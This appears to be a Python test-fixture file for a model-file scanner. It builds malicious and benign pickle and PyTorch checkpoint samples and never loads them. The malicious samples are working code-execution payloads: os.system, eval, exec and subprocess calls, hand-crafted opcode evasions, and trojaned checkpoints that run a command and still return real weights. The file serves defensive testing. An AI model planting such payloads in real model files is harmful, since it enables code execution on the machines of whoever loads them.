"""A corpus of malicious and benign pickle files, built here. Nothing in it is ever unpickled.

Payloads are made two ways: `pickle.dumps` of an object whose `__reduce__` names a dangerous callable (what real
exploits do; pickling only records the callable's module and name) and hand-written opcodes for the variants a
pickler never emits (`os system` through GLOBAL or INST, STACK_GLOBAL operands fetched from the memo, EXT codes).
"""

from __future__ import annotations

import builtins
import importlib
import io
import operator
import os
import pickle
import subprocess
import sys
import types
import zipfile
from contextlib import contextmanager
from typing import NamedTuple

import torch
from torch import nn

COMMAND = "echo pwned > /tmp/pwned"


class Call:
    """Pickles as `func(*args)`. Callable itself so that calls can nest (`getattr(...)(...)`)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):
        raise RuntimeError("a payload stand-in is never called")


def reduce_pickle(payload: Call, protocol: int) -> bytes:
    return pickle.dumps(payload, protocol=protocol)


def _short_unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


# Hand-written opcodes ------------------------------------------------------------------------------------------

# GLOBAL 'os system', MARK, STRING, TUPLE, REDUCE: the classic protocol-0 exploit.
OS_SYSTEM_GLOBAL = b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
# INST builds `os.system(COMMAND)` in one opcode.
OS_SYSTEM_INST = b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n."
# Protocol 4: module and name are memoized, popped, and fetched back for STACK_GLOBAL, so they sit nowhere near it.
OS_SYSTEM_STACK_GLOBAL_MEMO = (
    b"\x80\x04"
    + _short_unicode("os")
    + b"\x94"  # MEMOIZE -> 0
    + b"0"  # POP
    + _short_unicode("system")
    + b"\x94"  # MEMOIZE -> 1
    + b"0"
    + b"h\x00h\x01"  # BINGET 0, BINGET 1
    + b"\x93"  # STACK_GLOBAL
    + _short_unicode(COMMAND)
    + b"\x85R."  # TUPLE1, REDUCE, STOP
)
# STACK_GLOBAL whose module is built at load time (str of an int): a scanner cannot know what it imports.
STACK_GLOBAL_COMPUTED = (
    b"\x80\x04" + b"K\x01" + _short_unicode("system") + b"\x93" + _short_unicode(COMMAND) + b"\x85R."
)
# EXT1 fetches a global from copyreg's extension registry by number, naming nothing.
EXTENSION_CODE = b"\x80\x02\x82\x01)R."
# A custom class of a library a team trusts: harmless, but unknown to the scanner.
CUSTOM_GLOBAL = b"\x80\x04" + _short_unicode("mylib.config") + _short_unicode("Settings") + b"\x93)\x81."


class Sample(NamedTuple):
    path: str
    data: bytes
    expect: str  # what the version's status reason must say


def payloads() -> dict[str, Sample]:
    """id -> sample; every one of them must be quarantined."""
    corpus: dict[str, Sample] = {}
    for protocol in range(6):
        corpus[f"posix-system-p{protocol}"] = Sample(
            "pytorch_model.bin",
            reduce_pickle(Call(os.system, COMMAND), protocol),
            "pytorch_model.bin imports posix.system",
        )
        builtins_module = "__builtin__" if protocol < 3 else "builtins"  # how pickle spells it per protocol
        corpus[f"eval-p{protocol}"] = Sample(
            "evil.pkl",
            reduce_pickle(Call(eval, "__import__('os').system('id')"), protocol),
            f"evil.pkl imports {builtins_module}.eval",
        )
    system = Call(os.system, COMMAND)
    corpus |= {
        "os-system-GLOBAL": Sample("model.pt", OS_SYSTEM_GLOBAL, "model.pt imports os.system"),
        "os-system-INST": Sample("model.pth", OS_SYSTEM_INST, "model.pth imports os.system"),
        "os-system-STACK_GLOBAL-memo": Sample("last.ckpt", OS_SYSTEM_STACK_GLOBAL_MEMO, "last.ckpt imports os.system"),
        "STACK_GLOBAL-computed": Sample("evil.pkl", STACK_GLOBAL_COMPUTED, "evil.pkl imports unknown.system"),
        "EXT-opcode": Sample("evil.pkl", EXTENSION_CODE, "evil.pkl could not be scanned"),
        "subprocess-Popen": Sample(
            "evil.pkl",
            reduce_pickle(Call(subprocess.Popen, ["sh", "-c", COMMAND]), 3),
            "evil.pkl imports subprocess.Popen",
        ),
        "subprocess-Popen-py2-name": Sample(  # protocols 0-2 write Python 2's module name
            "evil.pkl",
            reduce_pickle(Call(subprocess.Popen, ["sh", "-c", COMMAND]), 2),
            "evil.pkl imports commands.Popen",
        ),
        "subprocess-check_output": Sample(
            "evil.pkl",
            reduce_pickle(Call(subprocess.check_output, ["id"]), 4),
            "evil.pkl imports subprocess.check_output",
        ),
        "exec": Sample(
            "evil.pkl", reduce_pickle(Call(exec, "import os; os.system('id')"), 3), "evil.pkl imports builtins.exec"
        ),
        "builtins-getattr-import": Sample(
            "evil.pkl",
            reduce_pickle(Call(Call(getattr, Call(builtins.__import__, "os"), "system"), COMMAND), 4),
            "evil.pkl imports builtins.__import__, builtins.getattr",
        ),
        "builtins-import-only": Sample(
            "evil.pkl", reduce_pickle(Call(builtins.__import__, "os"), 2), "evil.pkl imports __builtin__.__import__"
        ),
        "importlib-import_module": Sample(
            "evil.pkl",
            reduce_pickle(Call(importlib.import_module, "os"), 4),
            "evil.pkl imports importlib.import_module",
        ),
        "operator-attrgetter": Sample(
            "evil.pkl",
            reduce_pickle(Call(Call(operator.attrgetter("system"), Call(importlib.import_module, "os")), "id"), 5),
            "evil.pkl imports importlib.import_module, operator.attrgetter",
        ),
        "second-pickle-in-stream": Sample(
            "evil.pkl",
            pickle.dumps({"ok": 1}, protocol=4) + reduce_pickle(system, 4),
            "evil.pkl imports posix.system",
        ),
        "not-a-pickle": Sample(
            "pytorch_model.bin", b"\x80\x04\x95garbage that does not parse", "pytorch_model.bin could not be scanned"
        ),
        "torch-zip-nested": Sample(
            "pytorch_model.bin", torch_zip({**state_dict(), "hook": system}), "pytorch_model.bin imports posix.system"
        ),
        "torch-zip-data.pkl-rewritten": Sample(
            "pytorch_model.bin", torch_zip_with_trojan(compressed=False), "pytorch_model.bin imports posix.system"
        ),
        "torch-zip-data.pkl-deflated": Sample(
            "pytorch_model.bin", torch_zip_with_trojan(compressed=True), "pytorch_model.bin imports posix.system"
        ),
        "torch-zip-hidden-member": Sample(
            "model.pt",
            torch_zip_with_member("archive/extra", OS_SYSTEM_STACK_GLOBAL_MEMO),
            "model.pt imports os.system",
        ),
        "torch-legacy-nested": Sample(
            "pytorch_model.bin",
            torch_legacy({**state_dict(), "hook": system}),
            "pytorch_model.bin imports posix.system",
        ),
        "torch-legacy-storage-keys": Sample(
            "pytorch_model.bin", torch_legacy_with_fifth_pickle(OS_SYSTEM_GLOBAL), "pytorch_model.bin imports os.system"
        ),
    }
    return corpus


# Benign files --------------------------------------------------------------------------------------------------


class TinyModel(nn.Module):
    def __init__(self):
        super().__init__()
        self.embed = nn.Embedding(16, 8)
        self.proj = nn.Linear(8, 8)
        self.norm = nn.LayerNorm(8)
        self.head = nn.Linear(8, 16, bias=False)


def state_dict(seed: int = 0, dtype: torch.dtype | None = None) -> dict[str, torch.Tensor]:
    torch.manual_seed(seed)
    weights = TinyModel().state_dict()
    return {k: v.to(dtype) for k, v in weights.items()} if dtype else weights


def torch_zip(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def torch_legacy(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def benign() -> dict[str, tuple[str, bytes]]:
    """id -> (file name, bytes); every one of them must become ready."""
    return {
        "state-dict-zip": ("pytorch_model.bin", torch_zip(state_dict())),
        "state-dict-legacy": ("pytorch_model.bin", torch_legacy(state_dict())),
        "bf16-zip": ("model.pt", torch_zip(state_dict(dtype=torch.bfloat16))),
        "float8-legacy": ("model.pth", torch_legacy(state_dict(dtype=torch.float8_e4m3fn))),
        "checkpoint-with-parameters": (
            "last.ckpt",
            torch_zip({"state_dict": state_dict(), "epoch": 3, "params": dict(TinyModel().named_parameters())}),
        ),
        "plain-pickle": ("meta.pkl", pickle.dumps({"labels": ["a", "b"], "ids": {1, 2}}, protocol=2)),
    }


# Rewriting real torch files ------------------------------------------------------------------------------------


def _rewrite_zip(
    data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None, compressed=False
) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = replace.get(info.filename.split("/", 1)[1], source.read(info))
            compress = zipfile.ZIP_DEFLATED if compressed and info.filename.endswith(".pkl") else zipfile.ZIP_STORED
            target.writestr(info.filename, body, compress_type=compress)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def torch_zip_with_trojan(*, compressed: bool) -> bytes:
    """A real torch.save zip whose data.pkl still returns the state dict, after calling os.system on the way."""
    data = torch_zip(state_dict())
    original = zipfile.ZipFile(io.BytesIO(data)).read("archive/data.pkl")
    assert original.endswith(b".")
    trojan = original[:-1] + b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR0."  # call, POP, STOP
    return _rewrite_zip(data, {"data.pkl": trojan}, compressed=compressed)


def torch_zip_with_member(name: str, body: bytes) -> bytes:
    return _rewrite_zip(torch_zip(state_dict()), {}, add={name: body})


def torch_legacy_with_fifth_pickle(payload: bytes) -> bytes:
    """The legacy layout with a payload where torch.load expects the list of storage keys."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    head += pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return head + pickle.dumps({"weight": [1.0, 2.0]}, protocol=2) + payload


@contextmanager
def _module(name: str):
    module = types.ModuleType(name)
    sys.modules[name] = module
    try:
        yield module
    finally:
        del sys.modules[name]


def torch_zip_with_custom_class() -> bytes:
    """A checkpoint holding an object of a team's own class (module `mylib.config`), next to its tensors."""
    with _module("mylib"), _module("mylib.config") as module:

        class Settings:
            def __init__(self):
                self.layers = 2

        Settings.__module__ = module.__name__
        Settings.__qualname__ = "Settings"
        module.Settings = Settings
        return torch_zip({"state_dict": state_dict(), "settings": Settings()})
